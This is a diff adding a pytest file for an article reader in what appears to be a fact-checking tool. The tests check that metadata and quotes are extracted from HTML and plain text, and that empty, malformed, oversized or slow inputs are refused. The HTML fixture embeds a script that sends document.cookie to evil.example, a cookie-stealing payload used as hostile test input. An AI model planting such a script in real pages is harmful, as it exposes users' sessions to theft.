@@ -1,0 +1,107 @@
+"""What an article says of itself."""
+
+import asyncio
+import time
+
+import pytest
+
+from facts.usecases.desk.articles import LONGEST_ARTICLE, Articles, UnreadableArticle
+from facts.usecases.desk.drafts import Proposed
+
+PAGE = """<!doctype html><html lang="en-GB"><head><title>Mayor: I closed nothing | Post</title>
+<meta property="og:site_name" content="Harbour Post"><meta name="author" content="Kim Dahl">
+<meta property="article:published_time" content="2021-05-04T10:00:00Z">
+<link rel="canonical" href="https://harbour.example/bridge"></head><body><article>
+<h1>Mayor: I closed nothing</h1>
+<p>“I closed nothing,” said Jon Vik on Tuesday. He called it "a plain invention of the port".</p>
+<p>The harbour master had told the council: “The bridge is shut until June.” Cars went round by
+the northern road for the whole of the week, and the ferry ran every twenty minutes.</p>
+<script>fetch("https://evil.example/" + document.cookie)</script></article></body></html>"""
+
+TEXT = """Mayor: I closed nothing
+By Kim Dahl
+4 May 2021
+
+“I closed nothing,” said Jon Vik on Tuesday. They said “no”.
+https://www.harbour.example/bridge."""
+
+
+async def test_a_page_is_read() -> None:
+    """Outlet, headline, author, date, link, language and the quotes of some length."""
+    assert await Articles().read(PAGE) == Proposed(
+        outlet="Harbour Post",
+        headline="Mayor: I closed nothing",
+        author="Kim Dahl",
+        published="2021-05-04",
+        url="https://harbour.example/bridge",
+        language="en-GB",
+        quotes=(
+            "I closed nothing",
+            "a plain invention of the port",
+            "The bridge is shut until June.",
+        ),
+    )
+
+
+async def test_a_link_that_is_known_is_the_link() -> None:
+    """Whatever the page says of itself."""
+    read = await Articles().read(PAGE.encode(), link="https://harbour.example/seen?here")
+    assert read.url == "https://harbour.example/seen?here"
+
+
+async def test_plain_text_is_read() -> None:
+    """Its first line, its byline, its date, its link, and its quotes."""
+    read = await Articles().read(TEXT)
+    assert read == Proposed(
+        outlet="harbour.example",
+        headline="Mayor: I closed nothing",
+        author="Kim Dahl",
+        published="2021-05-04",
+        url="https://www.harbour.example/bridge",
+        quotes=("I closed nothing",),
+    )
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "",
+        "nothing to see",
+        "<p>",
+        b"\x00\xff\xfe",
+        "<div>" * 100_000,
+        '<html lang="' + "a" * 500_000,
+        "“" * 300_000,
+        "<!doctype html>" + "<a href='" * 50_000,
+    ],
+    ids=["empty", "words", "tag", "bytes", "nested", "attribute", "marks", "open"],
+)
+async def test_what_says_nothing_of_itself_is_refused(content: str | bytes) -> None:
+    """With a sentence, whatever it is made of."""
+    with pytest.raises(UnreadableArticle, match="by hand"):
+        await Articles().read(content)
+
+
+async def test_an_article_that_is_too_long_is_refused() -> None:
+    """One megabyte is the limit, in bytes."""
+    with pytest.raises(UnreadableArticle, match="limit"):
+        await Articles().read("é" * (LONGEST_ARTICLE // 2 + 1))
+
+
+async def test_a_reader_that_takes_too_long_is_ended() -> None:
+    """The moderator is told to fill it in by hand, and nothing goes on running."""
+    began = time.monotonic()
+    with pytest.raises(UnreadableArticle):
+        await Articles(seconds=0.01).read(PAGE)
+    assert time.monotonic() - began < 10
+
+
+async def test_the_loop_goes_on_while_an_article_is_read() -> None:
+    """The work is done by another process."""
+    turns = 0
+    reading = asyncio.create_task(Articles().read(PAGE))
+    while not reading.done():
+        await asyncio.sleep(0.001)
+        turns += 1
+    assert (await reading).outlet == "Harbour Post"
+    assert turns > 20
